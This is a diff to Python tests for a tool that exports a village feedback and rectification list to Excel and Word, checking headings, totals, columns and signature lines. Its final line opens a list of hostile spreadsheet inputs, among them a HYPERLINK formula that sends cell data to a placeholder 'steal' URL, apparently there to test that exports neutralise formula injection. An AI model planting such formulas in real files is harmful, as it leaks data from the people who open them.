@@ -78,9 +78,9 @@ def test_xlsx_reads_back(result):
     book = load_workbook(io.BytesIO(to_xlsx(result, unit=UNIT, date=DAY)))
     sheet = book["整改清单"]
     assert sheet["A1"].value == "群众评议意见整改清单" and sheet["A1"].font.bold
-    assert sheet["A2"].value == HEADING
+    assert sheet["A2"].value.startswith(HEADING + "　")
     answers = len({a.line for a in result.assignments})
-    totals = f"共收到 {answers} 份回答、意见 {result.total} 条（去重后 {result.unique} 条）"
+    totals = f"共收到回答 {answers} 条，拆分出意见 {result.total} 条（去重后 {result.unique} 条）"
     assert sheet["A3"].value.startswith(totals)
     assert [c.value for c in sheet[4]] == list(COLUMNS)
     assert sheet.freeze_panes == "A5" and sheet.print_title_rows == "$4:$4"
@@ -108,7 +108,7 @@ def test_docx_reads_back_in_gbt9704_fonts(result):
     doc = Document(io.BytesIO(to_docx(result, unit=UNIT, date=DAY)))
     assert doc.paragraphs[0].text == "群众评议意见整改清单"
     assert doc.paragraphs[1].text.startswith(HEADING) and "负责人（签字）：" in doc.paragraphs[1].text
-    assert doc.paragraphs[2].text.startswith("共收到 ")
+    assert doc.paragraphs[2].text.startswith("共收到回答 ")
     assert doc.sections[0].orientation == WD_ORIENT.LANDSCAPE
     assert "PAGE" in doc.sections[0].footer._element.xml  # page numbers
     table = doc.tables[0]
@@ -278,6 +278,22 @@ def test_the_detail_sheet_carries_the_form_number_and_department(result):
     detail = load_workbook(io.BytesIO(to_xlsx(form)))["意见明细"]
     assert [c.value for c in detail[1]][:3] == ["行号", *FORM_COLUMNS]
     assert [c.value for c in detail[12]][:4] == [10, "50", "冲压一班", "我是张**，一件零散的事"]
+
+
+def test_a_form_without_departments_gets_no_empty_department_column(result):
+    from openpyxl import load_workbook
+
+    form = result.model_copy(deep=True)
+    form.assignments = [a.model_copy(update={"number": str(40 + k)}) for k, a in enumerate(form.assignments)]
+    detail = load_workbook(io.BytesIO(to_xlsx(form)))["意见明细"]
+    assert [c.value for c in detail[1]][:3] == ["行号", "序号", "意见（已脱敏）"]
+
+
+def test_the_sheet_has_room_for_the_signatures(result):
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(to_xlsx(result, unit="东岭村党支部")))["整改清单"]
+    assert any("负责人（签字）" in str(c.value) and "填报人" in str(c.value) for c in sheet["A"][:4])
 
 
 HOSTILE = ['=HYPERLINK("http://x/steal?d="&A1,"点击查看详情")', "=1+1 食堂", "+1+1", "-1+1 停车",
